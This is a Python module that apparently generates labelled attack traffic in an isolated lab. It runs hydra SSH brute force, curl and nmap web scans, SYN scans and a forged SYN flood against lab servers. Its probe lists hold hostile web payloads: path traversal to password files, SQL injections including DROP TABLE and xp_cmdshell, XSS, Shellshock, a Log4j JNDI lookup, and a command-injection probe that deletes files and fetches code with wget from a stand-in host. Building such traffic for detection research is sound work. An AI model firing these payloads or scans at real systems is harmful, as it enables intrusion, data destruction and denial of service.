"""The attackers: each a real tool in a namespace of its own, so that every packet is its own.

See hydra(1), curl(1), nmap(1). The forger's packets are made in `lab.forger`.
"""

from __future__ import annotations

import random
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING

from lab import scenario
from lab.forger import FloodPlan
from lab.label import Role
from lab.sshd import USERS

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

_PATHS = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-config.php.bak",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/sh.php",
    "/phpmyadmin/scripts/setup.php",
    "/phpMyAdmin/index.php",
    "/administrator/index.php",
    "/manager/html",
    "/solr/admin/info/system",
    "/actuator/env",
    "/server-status",
    "/cgi-bin/test.cgi",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1",
    "/_ignition/execute-solution",
    "/boaform/admin/formLogin",
    "/HNAP1",
    "/owa/auth/logon.aspx",
    "/struts2-showcase/index.action",
    "/hudson",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x",
    "/static/../../../../etc/passwd",
    "/products/../../../../../../etc/shadow",
    "/download?file=....//....//....//etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/search?q=$%7Bjndi:ldap://198.51.100.1/a%7D",
    "/?x=() { :; }; echo vulnerable".replace(" ", "%20"),
)
_INJECTIONS = (
    "1'%20OR%20'1'='1",
    "1%20UNION%20SELECT%20NULL,NULL,NULL--",
    "1%20UNION%20ALL%20SELECT%20user,password%20FROM%20mysql.user--",
    "1;%20DROP%20TABLE%20users--",
    "1%20AND%20SLEEP(5)--",
    "1%20AND%201=CONVERT(int,(SELECT%20@@version))--",
    "1;%20EXEC%20xp_cmdshell('dir')--",
    "1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20DATABASE())))--",
    "-1%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--",
    "1%20INTO%20OUTFILE%20'/tmp/x'--",
)
_PARAMETERS = ("products/view?id", "search?q", "products/list?page", "news?item", "login?user")
_AGENTS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "zgrab/0.x")
_WEB_SCRIPTS = (
    "http-methods,http-headers,http-git,http-shellshock,http-vuln-cve*,"
    "http-phpmyadmin-dir-traversal,http-passwd,http-webdav-scan,http-open-proxy,http-trace"
)


@dataclass(frozen=True, slots=True)
class Attack:
    """A command to run in the attacker's namespace."""

    address: str
    """The attacker's own address."""
    role: Role
    command: tuple[str, ...]
    start: float
    """Seconds after the traffic's beginning."""


def attacks(cast: scenario.Scenario, work: Path, seed: int, seconds: float) -> list[Attack]:
    """Return the attacks by tools: none begins in the first third, in which all is well.

    `work` gets the lists that the tools read; `seconds` is how long the traffic lasts.
    """
    rng = random.Random(seed)
    made = [*_brute_force(cast, work), *_web_scans(cast, work, rng, seconds), *_syn_scans(cast)]
    return [
        Attack(address, role, command, seconds * rng.uniform(0.33, 0.5))
        for address, role, command in made
    ]


def flood(cast: scenario.Scenario, seed: int, seconds: float) -> FloodPlan:
    """Return the plan of the forged SYN flood on the web server: a sixth of the time long."""
    sources = (*cast.addresses(Role.SYN_FLOOD), *cast.forged_clients)
    return FloodPlan(sources, scenario.WEB, 80, seconds / 6, seed)


def forge(plan: Path) -> tuple[str, ...]:
    """Return the command that sends the flood of a plan's file."""
    return (sys.executable, "-m", "lab.forger", str(plan))


_Command = tuple[str, Role, tuple[str, ...]]


def _brute_force(cast: scenario.Scenario, work: Path) -> Iterator[_Command]:
    """Two guessers: one in four threads over several names, one slow, on one name.

    The server hangs up after a few guesses; `-w` is how soon hydra notices and connects again.
    """
    words, names = work / "passwords", work / "names"
    words.write_text("".join(f"secret{n:03}\n" for n in range(60)), encoding="ascii")
    names.write_text("root\nadmin\ntest\n" + f"{USERS[0]}\n", encoding="ascii")
    paces = (("-L", str(names), "-t", "4", "-w", "2"), ("-l", "root", "-t", "1", "-w", "6"))
    for address, pace in zip(cast.addresses(Role.SSH_BRUTE_FORCE), paces, strict=True):
        command = ("hydra", "-I", *pace, "-P", str(words), f"ssh://{scenario.SSH}")
        yield address, Role.SSH_BRUTE_FORCE, command


def _web_scans(
    cast: scenario.Scenario, work: Path, rng: random.Random, seconds: float
) -> Iterator[_Command]:
    first, second = cast.addresses(Role.WEB_SCANNER)
    targets = requests(rng)
    config = work / "requests"
    config.write_text(_curl_config(targets, rng), encoding="ascii")
    a_minute = max(60, round(len(targets) / (seconds * 0.4) * 60))
    options = ("--path-as-is", "--globoff", "--rate", f"{a_minute}/m", "--interface", first)
    yield first, Role.WEB_SCANNER, ("curl", "-s", "-m", "10", *options, "-K", str(config))
    scan = ("nmap", "-n", "-Pn", "-sT", "-p", "80", "--script", _WEB_SCRIPTS, "--max-rate", "20")
    yield second, Role.WEB_SCANNER, (*scan, scenario.WEB)


def requests(rng: random.Random) -> list[str]:
    """Return the URLs of the web scan: well-known probes, then injections into each parameter."""
    probes = rng.sample(_PATHS, len(_PATHS))
    injected = [f"/{name}={text}" for name in _PARAMETERS for text in _INJECTIONS]
    return [f"http://{scenario.WEB}{target}" for target in (*probes, *injected)]


def _curl_config(urls: Sequence[str], rng: random.Random) -> str:
    """Return a curl config with one connection for each request, as scanners make them."""
    agent = rng.choice(_AGENTS)
    head = f'user-agent = "{agent}"\nheader = "Connection: close"\n'
    escaped = (url.replace("\\", "\\\\") for url in urls)
    return head + "".join(f'url = "{url}"\noutput = "/dev/null"\n' for url in escaped)


def _syn_scans(cast: scenario.Scenario) -> Iterator[_Command]:
    """Two half-open scanners: a fast one of two servers, a slow one of one."""
    paces = (
        ("--max-rate", "150", scenario.WEB, scenario.SSH),
        ("--max-rate", "20", scenario.MAIL),
    )
    for address, pace in zip(cast.addresses(Role.SYN_SCANNER), paces, strict=True):
        scan = ("nmap", "-n", "-Pn", "-sS", "--top-ports", "1000", "--max-retries", "1")
        yield address, Role.SYN_SCANNER, (*scan, *pace)
